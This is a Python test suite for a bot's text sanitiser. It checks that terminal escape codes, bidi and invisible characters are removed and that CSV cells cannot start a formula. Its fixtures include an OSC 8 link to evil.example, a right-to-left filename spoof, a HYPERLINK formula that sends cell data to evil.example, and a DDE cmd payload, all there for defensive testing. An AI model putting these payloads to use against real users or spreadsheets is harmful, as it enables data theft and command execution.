"""Text hygiene: what residents type is stored without invisible or terminal-controlling characters."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.deliberation.errors import InvalidInput
from bot.deliberation.text import clean_text, csv_cell, csv_row, has_visible, optional_text, require_text

BIDI_AND_INVISIBLE = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200c\u200d\u200e\u200f\ufeff\u00ad"


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("a\x00b\x07c", "abc"),  # NUL, BEL
        ("\x1b[31mred\x1b[0m title", "red title"),  # ANSI colours, removed whole
        ("\x1b]0;owned\x07title", "title"),  # OSC window title
        ("\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "link"),  # OSC 8 hyperlink
        ("\x9b31mred", "red"),  # 8-bit CSI
        ("invoice\u202etxt.exe", "invoicetxt.exe"),  # right-to-left override
        ("\u2066isolated\u2069", "isolated"),
        ("\u200b\u200bzero\u200bwidth\ufeff", "zerowidth"),
        ("  加装电梯  ", "加装电梯"),
        ("一楼\t二楼", "一楼 二楼"),
        ("line one\nline two", "line one line two"),  # a title is one line
        ("a\u2028b", "a b"),
    ],
)
def test_clean_single_line(raw: str, clean: str) -> None:
    assert clean_text(raw) == clean


def test_multiline_keeps_line_breaks_and_drops_the_rest() -> None:
    raw = "第一行\r\n第二行\x00\r第三行  \n\n\n\n\u202e第四行\u2029end"
    assert clean_text(raw, multiline=True) == "第一行\n第二行\n第三行\n\n第四行\nend"


@pytest.mark.parametrize(
    "emoji",
    [
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",  # family: ZWJ sequence
        "\U0001f3f3\ufe0f\u200d\U0001f308",  # rainbow flag: VS16 then ZWJ
        "\U0001f44d\U0001f3fd",  # thumbs up, skin tone
        "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",  # England: tag sequence
        "1\ufe0f\u20e3",  # keycap
        "\u2764\ufe0f",
    ],
)
def test_emoji_sequences_survive(emoji: str) -> None:
    assert clean_text(f"好{emoji}好") == f"好{emoji}好"


def test_a_joiner_between_letters_or_a_stray_tag_is_removed() -> None:
    assert clean_text("ab\u200dcd") == "abcd"
    assert clean_text("a\U000e0067b") == "ab"


@pytest.mark.parametrize("raw", ["", "   ", "\u200b\u200b", "\u202e\u202c", "\x00\x07\x1b[0m", "\u3164\u3164",
                                 "\u2800", "\u0301\u0301", "\ufe0f"])
def test_nothing_visible_is_refused(raw: str) -> None:
    assert not has_visible(clean_text(raw))
    with pytest.raises(InvalidInput) as refused:
        require_text(raw, field="title", max_length=200)
    assert refused.value.params == {"field": "title", "reason": "blank"}
    assert optional_text(raw, max_length=10) == ""


def test_length_is_checked_after_cleaning() -> None:
    assert require_text("\u200b" * 500 + "ok", field="title", max_length=200) == "ok"
    with pytest.raises(InvalidInput) as refused:
        require_text("x" * 201, field="title", max_length=200)
    assert refused.value.params["reason"] == "too_long" and refused.value.params["max"] == 200
    assert optional_text("abcdef", max_length=3) == "abc"


FORBIDDEN = {"Cc", "Cs"}


@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=()), max_size=80))
def test_never_a_control_or_bidi_character_and_idempotent(raw: str) -> None:
    for multiline in (False, True):
        clean = clean_text(raw, multiline=multiline)
        for char in clean:
            category = unicodedata.category(char)
            assert category not in FORBIDDEN or (multiline and char == "\n")
            if category == "Cf":  # only joiners inside emoji and tag letters after a black flag
                assert char == "\u200d" or 0xE0020 <= ord(char) < 0xE0080, (raw, clean)
            assert char not in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\ufeff"
        assert clean == clean.strip()
        assert clean_text(clean, multiline=multiline) == clean
        if not multiline:
            assert "\n" not in clean


@given(st.text(alphabet=st.characters(categories=("L", "N", "P", "S", "Zs")), max_size=80))
def test_ordinary_text_is_unchanged_but_trimmed(raw: str) -> None:
    # Letters (CJK included), digits, punctuation, symbols (emoji) and spaces pass untouched.
    assert clean_text(raw) == raw.strip()


@given(st.text(alphabet=st.sampled_from(BIDI_AND_INVISIBLE + "\x00\x07\x1b\t\r\n "), max_size=40))
def test_only_invisible_characters_is_empty(raw: str) -> None:
    assert clean_text(raw) == ""
    assert clean_text(raw, multiline=True) == ""


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"点我")', '\'=HYPERLINK("http://evil.example/?"&A1,"点我")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("加装电梯 = 好事", "加装电梯 = 好事"),
        ("3-2-501", "3-2-501"),
        ("", ""),
        (-1, -1),  # numbers written as numbers are not text
        (78, 78),
        (None, None),
        (True, True),
    ],
)
def test_csv_cells_cannot_start_a_formula(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def test_csv_row() -> None:
    assert csv_row(["=1", 2, "x"]) == ["'=1", 2, "x"]


@given(st.text(max_size=30))
def test_no_text_cell_starts_a_formula(value: str) -> None:
    cell = csv_cell(value)
    assert isinstance(cell, str)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell in (value, "'" + value)


def test_lone_surrogates_are_dropped() -> None:
    # JSON allows "\ud800"; such a string cannot be encoded for the database.
    assert clean_text("a\ud800b\udfff") == "ab"
